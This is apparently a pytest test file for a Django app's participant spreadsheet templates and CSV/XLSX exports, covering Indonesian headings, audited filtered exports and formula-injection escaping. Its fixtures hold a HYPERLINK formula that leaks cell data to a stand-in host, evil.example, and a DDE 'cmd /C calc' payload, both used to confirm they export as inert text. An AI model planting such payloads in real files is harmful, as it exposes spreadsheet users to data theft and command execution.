"""Templates and exports: Indonesian headings, the NIK kept as text, and an
export of the filtered list that imports back unchanged."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell

from accounts.models import Organization
from audit.models import AuditAction, AuditEntry
from lib.spreadsheet.writing import append_row
from lib.tests.workbooks import saved
from participants import actions
from participants.models import Participant
from spreadsheets.models import ImportJob, ImportState
from spreadsheets.tests.files import person, upload
from tests.cast import Cast, details
from tests.nik import make_nik


def test_the_template_has_indonesian_headings_a_text_nik_column_and_instructions(client: Client, cast: Cast) -> None:
    client.force_login(cast.lpk_officer)
    response = client.get("/spreadsheets/template/participants.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    data = workbook["Data"]
    headings = [cell.value for cell in data[1]]
    assert headings[:5] == ["NIK", "Nama Lengkap", "Nama Katakana", "Jenis Kelamin", "Tanggal Lahir"]
    assert data["A2"].number_format == "@"
    assert [v.formula1 for v in data.data_validations.dataValidation] == ['"L,P"']
    assert len(workbook.sheetnames) == 3  # data, instructions (with the example row), codes
    # No example on the data sheet, to be imported by whoever forgets to delete it.
    assert all(cell.value is None for cell in data[2])


def test_the_export_follows_the_lists_filters_and_is_audited_as_a_sensitive_read(client: Client, cast: Cast) -> None:
    client.force_login(cast.ministry_admin)
    response = client.get("/spreadsheets/export/participants.csv", {"sending_organization": cast.lpk.pk})
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]
    assert text.startswith("\ufeffNIK,Nama Lengkap")
    assert cast.budi.nik in text
    assert cast.siti.nik not in text  # filtered out
    entry = AuditEntry.objects.get(action=AuditAction.VIEWED_SENSITIVE, actor=cast.ministry_admin)
    assert entry.changes["export"]["rows"] == 1
    assert entry.changes["export"]["filters"] == {"sending_organization": str(cast.lpk.pk)}


@pytest.mark.parametrize(
    "query",
    [
        {"q": "Budi\x00"},
        {"q": "Bu"},  # too short to search: every participant is not what was asked for
        {"status": "no-such-status"},
        {"sending_organization": "99999999999999999999"},
    ],
)
def test_an_export_refuses_filters_it_cannot_read_and_records_nothing(
    client: Client, cast: Cast, query: dict[str, str]
) -> None:
    client.force_login(cast.ministry_officer)
    before = AuditEntry.objects.count()

    response = client.get("/spreadsheets/export/participants.csv", query)

    # Not the whole list under a filter the person thinks applies: nothing, and why.
    assert response.status_code == 400
    assert AuditEntry.objects.count() == before


def test_an_export_only_holds_what_the_user_may_see(client: Client, cast: Cast) -> None:
    client.force_login(cast.lpk_officer)
    response = client.get("/spreadsheets/export/participants.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active  # type: ignore[attr-defined]
    assert sheet is not None
    niks = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert niks == [cast.budi.nik]


def test_an_exported_file_imports_back_as_unchanged(client: Client, cast: Cast) -> None:
    client.force_login(cast.lpk_officer)
    exported = b"".join(client.get("/spreadsheets/export/participants.xlsx").streaming_content)  # type: ignore[attr-defined]
    client.post("/spreadsheets/", {"kind": "participants", "file": upload(exported)})
    job = ImportJob.objects.get()
    assert (job.state, job.unchanged, job.new, job.updated, job.invalid) == (ImportState.VALIDATED, 1, 0, 0, 0)
    assert Participant.objects.count() == 2


def test_the_participant_list_links_the_export_with_its_filters(client: Client, cast: Cast) -> None:
    client.force_login(cast.ministry_admin)
    page = client.get("/participants/", {"status": "registered"}).content.decode()
    assert "/spreadsheets/export/participants.xlsx?status=registered" in page
    assert "/spreadsheets/export/participants.csv?status=registered" in page


# --- values typed by one organization stay text in everyone's files ---------------

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def injected(cast: Cast) -> Participant:
    """An LPK/SO's participant whose name and address are formulas as typed."""
    return actions.register_participant(
        details=details(
            cast,
            full_name=INJECTED,
            address="@SUM(1+1)*cmd|' /C calc'!A0",
            birth_date=datetime.date(2001, 2, 3),
            nik=make_nik(datetime.date(2001, 2, 3)),
        ),
        by=cast.lpk_officer,
    )


def _cells(content: bytes) -> list[Cell]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]


def test_the_xlsx_export_writes_every_value_as_text(client: Client, cast: Cast, injected: Participant) -> None:
    client.force_login(cast.ministry_admin)
    content = b"".join(client.get("/spreadsheets/export/participants.xlsx").streaming_content)  # type: ignore[attr-defined]
    cells = _cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    name = next(cell for cell in cells if cell.value == INJECTED)
    assert (name.data_type, name.quotePrefix) == ("s", True)
    phone = next(cell for cell in cells if cell.value == cast.budi.phone)
    assert phone.data_type == "s"


def test_the_csv_export_escapes_what_would_run_and_imports_back_unchanged(
    client: Client, cast: Cast, injected: Participant
) -> None:
    client.force_login(cast.lpk_officer)
    text = b"".join(client.get("/spreadsheets/export/participants.csv").streaming_content).decode()  # type: ignore[attr-defined]
    records = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    fields = [field for record in records[1:] for field in record]
    assert "'" + INJECTED in fields
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in fields
    assert "'" + cast.budi.phone in fields
    assert not [field for field in fields if field and field[0] in "=+-@\t\r"]

    client.post("/spreadsheets/", {"kind": "participants", "file": upload(text.encode(), "peserta.csv")})
    job = ImportJob.objects.get()
    assert job.issues == []
    assert (job.state, job.unchanged, job.new, job.updated, job.invalid) == (ImportState.VALIDATED, 2, 0, 0, 0)


def test_the_errors_download_writes_the_files_own_headings_and_values_as_text(client: Client, cast: Cast) -> None:
    client.force_login(cast.lpk_officer)
    # "=Jenis Kelamin" still names the column (punctuation is ignored); the file's own spelling is what the errors show.
    headings = ["NIK", "Nama Lengkap", "=Jenis Kelamin", "Tanggal Lahir", "Tempat Lahir", "Kode BLK", "Kode LPK"]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_row(sheet, headings)  # as text, the way Excel keeps "'=X" typed with its quote
    append_row(sheet, person(cast, 1, **{"Jenis Kelamin": "=X"}))
    client.post("/spreadsheets/", {"kind": "participants", "file": upload(saved(workbook))})
    job = ImportJob.objects.get()
    assert [(issue["column"], issue["code"]) for issue in job.issues] == [("=Jenis Kelamin", "bad_sex")]
    cells = _cells(client.get(f"/spreadsheets/{job.pk}/errors.xlsx").content)
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    assert "=Jenis Kelamin" in [cell.value for cell in cells]


def test_the_template_holds_no_formula_whatever_the_codes_and_names(client: Client, cast: Cast) -> None:
    Organization.objects.filter(pk=cast.blk.pk).update(name='=HYPERLINK("http://evil.example")', code="-blk")
    client.force_login(cast.ministry_admin)
    cells = _cells(client.get("/spreadsheets/template/participants.xlsx").content)
    assert {'=HYPERLINK("http://evil.example")', "-blk"} <= {cell.value for cell in cells}
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
